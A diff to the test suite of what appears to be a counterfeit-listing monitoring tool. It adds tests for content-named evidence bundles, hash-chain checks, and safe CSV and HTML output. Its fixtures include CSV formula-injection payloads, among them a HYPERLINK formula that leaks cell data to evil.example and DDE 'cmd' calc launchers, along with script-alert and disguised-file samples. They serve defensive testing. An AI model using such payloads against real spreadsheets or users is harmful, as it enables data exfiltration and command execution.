@@ -203,19 +203,53 @@ def test_evidence_bundle_checks_with_sha256sum_alone(db: Path, tmp_path: Path) -
     out = tmp_path / "bundle"
     result = cli("evidence", "--db", str(db), "1", "--out", str(out))
     assert result.exit_code == 0, result.output
-    assert sorted(p.name for p in (out / "captures").iterdir()) == ["001-page.html",
+    assert sorted(p.name for p in (out / "captures").iterdir()) == ["001-page.html.txt",
                                                                    "002-image.jpg"]
     check = subprocess.run(["sha256sum", "-c", "SHA256SUMS"], cwd=out, capture_output=True,
                            text=True)
-    assert check.returncode == 0 and check.stdout.count(": OK") == 2
+    # Two captures, the chain segment, its head and the manifest.
+    assert check.returncode == 0 and check.stdout.count(": OK") == 5
     manifest = json.loads((out / "manifest.json").read_text())
     assert manifest["listing"]["url"] == "http://bazaar.test/item/1"
     entry = manifest["captures"][0]["custody_log"]
     assert json.loads(entry["content"])["sha256"] == manifest["captures"][0]["sha256"]
     assert "sha256sum -c SHA256SUMS" in (out / "README.txt").read_text()
-    (out / "captures" / "001-page.html").write_bytes(b"<html>changed</html>")
+    (out / "captures" / "001-page.html.txt").write_bytes(b"<html>changed</html>")
     assert subprocess.run(["sha256sum", "-c", "SHA256SUMS"], cwd=out,
                           capture_output=True).returncode != 0
+
+
+def test_bundle_files_are_named_by_content_never_by_the_server(tmp_path: Path) -> None:
+    db = tmp_path / "b.db"
+    store = Store.open(db)
+    run = store.start_run("monitor.toml", ["bazaar"])
+    item = make_listing(1, "Nordvik Trail Backpack 30L replica", 90, None)
+    jpeg_zip = (CATALOG / "trail-30.jpg").read_bytes() + b"PK\x03\x04 a zip appended"
+    item.captures = [capture("page", item.url, b"<html><script>alert(1)</script></html>",
+                             "application/hta"),
+                     capture("image", "http://bazaar.test/1.jpg", jpeg_zip, "application/java-archive"),
+                     capture("image", "http://bazaar.test/2.js", b"alert(1)", "text/javascript")]
+    store.write_batch([item], run)
+    store.add_verdicts([1], "counterfeit", note=None, decided_by="ana")
+    store.record_head("verdicts on 1")
+    store.close()
+    out = tmp_path / "bundle"
+    assert cli("evidence", "--db", str(db), "1", "--out", str(out)).exit_code == 0
+    assert sorted(p.name for p in (out / "captures").iterdir()) == [
+        "001-page.html.txt", "002-image.jpg", "003-image.bin"]
+    # The README's own chain check, run as written, says the segment holds.
+    readme = (out / "README.txt").read_text()
+    snippet = readme[readme.index("python3 -c"):readme.index("The last line")]
+    command = snippet.replace("\\\n", "").split("python3 -c ", 1)[1].strip()
+    check = subprocess.run(["sh", "-c", f"python3 -c {command}"], cwd=out, capture_output=True,
+                           text=True)
+    assert check.stdout.strip() == "True", check.stderr
+    chain = [json.loads(line) for line in (out / "chain.jsonl").read_text().splitlines()]
+    assert (out / "head.txt").read_text() == f"head {chain[-1]['id']} {chain[-1]['entry_hash']}"
+    assert [e["kind"] for e in chain] == ["capture"] * 3 + ["verdict"]
+    # Never into a folder that holds files already.
+    again = cli("evidence", "--db", str(db), "1", "--out", str(out))
+    assert again.exit_code == 2 and "exists and is not an empty folder" in again.output
 
 
 # -- export and report -------------------------------------------------------------
@@ -355,3 +389,45 @@ def test_a_verdict_outlives_the_next_crawl(db: Path) -> None:
                                     SITES / "bazaar/img/b2.jpg")], run)
     store.close()
     assert queue(db) == [2]
+
+
+# -- output that cannot be turned against its reader ---------------------------------------
+
+HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "=cmd|' /C calc'!A0",
+           "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3", "\t=1+1"]
+
+
+def test_a_csv_of_hostile_titles_opens_with_no_formula(tmp_path: Path) -> None:
+    db = tmp_path / "hostile.db"
+    store = Store.open(db)
+    run = store.start_run("monitor.toml", ["bazaar"])
+    store.write_batch([make_listing(n, title, 90, None) for n, title in enumerate(HOSTILE, 1)],
+                      run)
+    store.add_verdicts(list(range(1, len(HOSTILE) + 1)), "counterfeit", note="=1+2",
+                       decided_by="ana")
+    store.close()
+    rows = list(csv.reader(io.StringIO(cli("export", "--db", str(db)).output)))
+    cells = [cell for row in rows[1:] for cell in row]
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    titles = {row[rows[0].index("listing_title")] for row in rows[1:]}
+    assert titles == {"'" + t for t in HOSTILE}  # shown as text, nothing lost
+
+
+def test_bidi_controls_are_shown_not_obeyed_on_display(tmp_path: Path) -> None:
+    db = tmp_path / "bidi.db"
+    store = Store.open(db)
+    run = store.start_run("monitor.toml", ["bazaar"])
+    item = make_listing(1, "Nordvik Trail Backpack 30L replica", 90, None)
+    item.seller = "Nordvik \u202eerotS laiciffO"
+    store.write_batch([item], run)
+    store.add_verdicts([1], "counterfeit", note=None, decided_by="ana")
+    store.close()
+    row = next(csv.DictReader(io.StringIO(cli("export", "--db", str(db)).output)))
+    assert row["seller"] == "Nordvik <U+202E>erotS laiciffO"
+    out = tmp_path / "r.html"
+    cli("report", "--db", str(db), "--out", str(out))
+    html = out.read_text(encoding="utf-8")
+    assert "\u202e" not in html and "Nordvik &lt;U+202E&gt;erotS laiciffO" in html
+    # The evidence keeps what the page said.
+    assert sqlite3.connect(db).execute("SELECT seller FROM listings").fetchone()[0] == \
+        "Nordvik \u202eerotS laiciffO"
